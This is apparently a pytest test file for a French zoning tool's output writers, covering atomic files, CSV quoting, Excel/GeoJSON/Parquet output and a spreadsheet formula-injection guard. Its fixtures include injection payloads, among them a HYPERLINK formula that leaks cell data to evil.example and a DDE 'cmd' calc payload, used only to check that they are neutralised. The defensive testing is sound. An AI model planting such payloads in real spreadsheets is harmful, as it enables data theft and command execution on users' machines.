"""The one writer module: atomic outputs, CSV quoting, the formula guard, XLSX control characters.

Every table is read back with an independent reader (the ``csv`` module, pandas,
openpyxl, pyarrow) rather than compared with what the writer meant to write.
"""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from zoning.errors import OutputError, OutputInterruptedError
from zoning.io.atomic import atomic_open, atomic_path, check_output, write_text
from zoning.io.cells import excel_value, neutralise, neutralise_frame
from zoning.io.write import (
    TableWriter,
    write_csv,
    write_frame_csv,
    write_geojson,
    write_parquet,
)
from zoning.io.xlsx import write_excel

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
    "+33 5 55 00 00 00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "ligne 1\rligne 2",  # a bare CR inside a cell
    "ligne 1\nligne 2",
    "a;b",
    'guillemet " dedans',
    "nul\x00 et cloche\x07",
    "",
]


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".part"))


# -- the formula guard -----------------------------------------------------------------
def test_neutralise_guards_text_only() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("+33 5 55") == "'+33 5 55"
    assert neutralise("-2+3") == "'-2+3"
    assert neutralise("-") == "'-"
    assert neutralise("\t-1") == "'\t-1"
    # numbers and text that is a plain negative number are data, not formulas
    for value in (-0.18526, 3, 2.5, None, "-0.18526", "-0,5490", "-12", "-1e5", "ok"):
        assert neutralise(value) == value


def test_neutralise_frame_keeps_numbers_numeric() -> None:
    frame = pd.DataFrame(
        {
            "lon": [-0.18526, 1.87, -1.5],
            "texte_lon": ["-0.18526", "1.87", "-1,5"],
            "nom": ["=cmd|' /C calc'!A0", "ok", None],
            "mixte": pd.Series([1, "@x", None], dtype=object),
        }
    )
    out = neutralise_frame(frame)
    assert out["lon"].dtype.kind == "f" and list(out["lon"]) == [-0.18526, 1.87, -1.5]
    assert list(out["texte_lon"]) == ["-0.18526", "1.87", "-1,5"]
    assert list(out["nom"])[:2] == ["'=cmd|' /C calc'!A0", "ok"]
    assert list(out["mixte"])[:2] == [1, "'@x"]
    assert frame.loc[0, "nom"].startswith("=")  # the input frame is not modified


# -- CSV ---------------------------------------------------------------------------------
def test_csv_round_trip_with_cr_lf_and_payloads(tmp_path: Path) -> None:
    path = tmp_path / "sortie.csv"
    rows = [[i, value, -0.18526 - i, "-0.18526"] for i, value in enumerate(HOSTILE)]
    write_csv(path, ["n", "texte", "lon", "lon_texte"], rows)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM, for Excel
    back = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(back) == len(rows) + 1
    assert back[0] == ["n", "texte", "lon", "lon_texte"]
    for (n, value, lon, lon_text), got in zip(rows, back[1:], strict=True):
        assert got[0] == str(n)
        assert got[1] == neutralise(value)
        assert float(got[2]) == lon and got[3] == lon_text  # numbers, no apostrophe
    assert back[7][1] == "ligne 1\rligne 2"  # bare CR kept inside its cell
    assert back[1][1].startswith("'=HYPERLINK(")
    frame = pd.read_csv(path, sep=";", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert len(frame) == len(rows)


def test_frame_csv_five_thousand_rows_with_cr(tmp_path: Path) -> None:
    """Issue 10: 5 000 rows with bare CRs were read back as 5 555."""
    n = 5_000
    frame = pd.DataFrame(
        {
            "id": range(n),
            "nom": [f"site {i}\rannexe" if i % 9 == 0 else f"site {i}" for i in range(n)],
            "lon": [-0.18526 + i * 1e-5 for i in range(n)],
        }
    )
    path = write_frame_csv(frame, tmp_path / "sites.csv")
    back = pd.read_csv(path, sep=";", encoding="utf-8-sig")
    assert len(back) == n
    assert back["lon"].dtype.kind == "f"
    assert (back["lon"] - frame["lon"]).abs().max() < 1e-12
    assert back.loc[9, "nom"] == "site 9\rannexe"


# -- XLSX --------------------------------------------------------------------------------
def test_excel_guards_text_keeps_numbers_and_control_characters(tmp_path: Path) -> None:
    path = tmp_path / "sortie.xlsx"
    rows = [[value, -0.18526, 46.17, "-0.18526"] for value in HOSTILE]
    rows.append([float("nan"), None, 3, pd.NA])
    write_excel(path, {"Résultats": (["texte", "lon", "lat", "lon texte"], rows)})
    book = load_workbook(path)
    ws = book["Résultats"]
    assert ws.freeze_panes == "A2"
    values = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
    assert len(values) == len(rows)  # every row kept, the control-character one too
    assert values[0][0].startswith("'=HYPERLINK(")
    assert ws.cell(2, 1).data_type == "s"  # text, not a formula
    assert values[10][0] == "nul␀ et cloche␇"
    for row in values[:-1]:
        assert row[1] == -0.18526 and row[2] == 46.17 and row[3] == "-0.18526"
    assert values[-1] == [None, None, 3, None]


def _read_sheets(path: Path) -> dict[str, list[list[object]]]:
    book = load_workbook(path)
    return {ws.title: [list(r) for r in ws.iter_rows(values_only=True)] for ws in book}


def test_excel_sheets_keep_their_own_columns_and_short_rows_stay_aligned(tmp_path: Path) -> None:
    """The keyed-rows writer: each sheet its own headers (its rows are made lazily, at
    save), a short row padded with empty cells, never shifted under the wrong header."""
    import datetime as dt

    path = tmp_path / "classeur.xlsx"
    write_excel(
        path,
        {
            "Résultats": (["a", "b", "c"], [["x"], ["=1", 2, dt.date(2023, 11, 1)], [None, 1.5]]),
            "Synthèse": (["catégorie", "total"], [["ensemble", 3]]),
            "Provenance": (["élément", "valeur"], [["outil", "zoning"]]),
        },
    )
    sheets = _read_sheets(path)
    assert sheets["Résultats"] == [
        ["a", "b", "c"],
        ["x", None, None],
        ["'=1", 2, dt.datetime(2023, 11, 1)],
        [None, 1.5, None],
    ]
    assert sheets["Synthèse"] == [["catégorie", "total"], ["ensemble", 3]]
    assert sheets["Provenance"] == [["élément", "valeur"], ["outil", "zoning"]]
    ws = load_workbook(path)["Résultats"]
    assert ws.freeze_panes == "A2" and ws["A1"].font.b
    assert ws["C3"].number_format == "dd/mm/yyyy"


def test_excel_repeated_headers_times_of_day_and_long_text(tmp_path: Path) -> None:
    """What keyed rows cannot hold (two columns of one name, an empty sheet, a time of
    day) is written all the same; text is cut at a cell's 32 767 characters."""
    import datetime as dt

    path = tmp_path / "doublons.xlsx"
    long = "x" * 40_000
    write_excel(
        path,
        {
            "Résultats": (
                ["nom", "nom", "quand"],
                [["a", "b", dt.datetime(2023, 11, 1, 10, 5)], ["c", long, None]],
            ),
            "Vide": (["élément"], []),
        },
    )
    sheets = _read_sheets(path)
    assert sheets["Résultats"][0] == ["nom", "nom", "quand"]
    assert sheets["Résultats"][1] == ["a", "b", dt.datetime(2023, 11, 1, 10, 5)]
    assert sheets["Résultats"][2][:2] == ["c", "x" * 32_767]
    assert sheets["Vide"] == [["élément"]]
    ws = load_workbook(path)["Résultats"]
    assert ws["C2"].number_format == "dd/mm/yyyy hh:mm:ss"


def test_excel_pandas_and_numpy_times_keep_their_time(tmp_path: Path) -> None:
    """A pandas Timestamp or numpy datetime64 is a time of day too (a datetime subclass,
    or one once written): shown with its hours, not cut to the day."""
    import datetime as dt

    import numpy as np

    path = tmp_path / "heures.xlsx"
    stamps = [pd.Timestamp("2023-11-01 10:05"), np.datetime64("2023-11-02T08:00")]
    write_excel(path, {"Résultats": (["a", "b"], [stamps, [pd.NaT, 1]])})
    ws = load_workbook(path)["Résultats"]
    want = [dt.datetime(2023, 11, 1, 10, 5), dt.datetime(2023, 11, 2, 8)]
    assert [c.value for c in ws[2]] == want
    assert ws["A2"].number_format == ws["B2"].number_format == "dd/mm/yyyy hh:mm:ss"
    assert [c.value for c in ws[3]] == [None, 1]


def test_excel_value_unknown_objects() -> None:
    import numpy as np

    assert excel_value(np.int64(3)) == 3 and isinstance(excel_value(np.float64(2.5)), float)
    assert excel_value({"a": 1}) == "{'a': 1}"
    assert excel_value("=x") == "'=x"
    assert excel_value(float("inf")) is None and excel_value(float("nan")) is None


# -- GeoJSON, Parquet ----------------------------------------------------------------------
def test_geojson_has_valid_json_for_nan(tmp_path: Path) -> None:
    import json

    path = write_geojson(
        tmp_path / "p.geojson",
        ["id", "d"],
        [["a", float("nan")], ["b", 1.5]],
        [(1.0, 45.0), None],
        {"outil": "test"},
    )
    doc = json.loads(path.read_text(encoding="utf-8"))  # strict: NaN would be refused
    assert [f["properties"]["d"] for f in doc["features"]] == [None, 1.5]
    assert doc["features"][1]["geometry"] is None


def test_parquet(tmp_path: Path) -> None:
    frame = pd.DataFrame({"a": [1, 2], "b": ["=x", "y"]})
    path = write_parquet(frame, tmp_path / "t.parquet")
    assert pq.read_table(path).to_pandas().equals(frame)  # Parquet is data: not guarded


# -- chunked writer ------------------------------------------------------------------------
@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_table_writer_commits_or_leaves_nothing(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"points{suffix}"
    chunk = pd.DataFrame({"id": [1, 2], "lon": [-0.5, 1.2], "nom": ["=a", "b\rc"]})
    with TableWriter(path, sep=";") as out:
        out.write(chunk)
        out.write(chunk)
        assert not path.exists() and len(_leftovers(tmp_path)) == 1
    assert out.rows == 4 and _leftovers(tmp_path) == []
    if suffix == ".csv":
        back = pd.read_csv(path, sep=";", encoding="utf-8-sig")
        assert list(back["nom"]) == ["'=a", "b\rc"] * 2 and back["lon"].dtype.kind == "f"
    else:
        assert list(pd.read_parquet(path)["nom"]) == ["=a", "b\rc"] * 2

    path.write_text("ancienne version", encoding="utf-8")
    with pytest.raises(RuntimeError), TableWriter(path) as out:
        out.write(chunk)
        raise RuntimeError("échec au milieu")
    assert path.read_text(encoding="utf-8") == "ancienne version"
    assert _leftovers(tmp_path) == []


def test_table_writer_gathers_parquet_chunks_into_row_groups(tmp_path: Path) -> None:
    """Small chunks make row groups of about ``row_group`` rows (each group repeats its
    dictionaries), every row kept in order (a full disk at the last row group: see the
    hostile tests)."""
    import pyarrow as pa

    path = tmp_path / "points.parquet"
    names = pa.array(["Guéret", "Aubusson", "=x"]).dictionary_encode()
    chunks = [
        pa.table({"id": pa.array(range(i * 3, i * 3 + 3)), "commune": names}) for i in range(7)
    ]
    with TableWriter(path, row_group=6) as out:
        for chunk in chunks:
            out.write(chunk)
    meta = pq.ParquetFile(path).metadata
    assert [meta.row_group(i).num_rows for i in range(meta.num_row_groups)] == [6, 6, 6, 3]
    back = pq.read_table(path)
    assert back.column("id").to_pylist() == list(range(21))
    assert back.column("commune").to_pylist() == ["Guéret", "Aubusson", "=x"] * 7


# -- atomic files --------------------------------------------------------------------------
def test_interrupt_leaves_previous_file_and_no_temp(tmp_path: Path) -> None:
    path = tmp_path / "carte.html"
    path.write_text("<html>avant</html>", encoding="utf-8")
    with pytest.raises(OutputInterruptedError) as info, atomic_open(path) as handle:
        handle.write("<html>moitié")
        raise KeyboardInterrupt
    assert info.value.exit_code == 130 and "carte.html" in str(info.value)
    assert path.read_text(encoding="utf-8") == "<html>avant</html>"
    assert _leftovers(tmp_path) == []


def test_permissions_follow_umask(tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        path = write_text(tmp_path / "a.txt", "x")
    finally:
        os.umask(old)
    assert stat.S_IMODE(path.stat().st_mode) == 0o644


def test_missing_folder_is_a_french_error(tmp_path: Path) -> None:
    target = tmp_path / "absent" / "sortie.csv"
    with pytest.raises(OutputError, match="dossier de sortie introuvable") as info:
        write_csv(target, ["a"], [[1]])
    assert info.value.exit_code == 2 and "sortie.csv" in str(info.value)
    with pytest.raises(OutputError, match="introuvable"):
        check_output(target)


def test_output_equal_to_input_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "entree.csv"
    source.write_text("a\n1\n", encoding="utf-8")
    link = tmp_path / "lien.csv"
    os.link(source, link)
    for output in (source, tmp_path / "." / "entree.csv", link):
        with pytest.raises(OutputError, match="aussi un fichier d'entrée"):
            check_output(output, source)
    assert source.read_text(encoding="utf-8") == "a\n1\n"
    with pytest.raises(OutputError, match="est un dossier"):
        check_output(tmp_path, source)
    assert check_output(tmp_path / "sortie.csv", source, None) == tmp_path / "sortie.csv"


def test_atomic_path_folder(tmp_path: Path) -> None:
    final = tmp_path / "jeu.parquet"
    with atomic_path(final, folder=True) as tmp:
        (tmp / "part.0.parquet").write_bytes(b"x")
        assert not final.exists()
    assert (final / "part.0.parquet").is_file() and _leftovers(tmp_path) == []
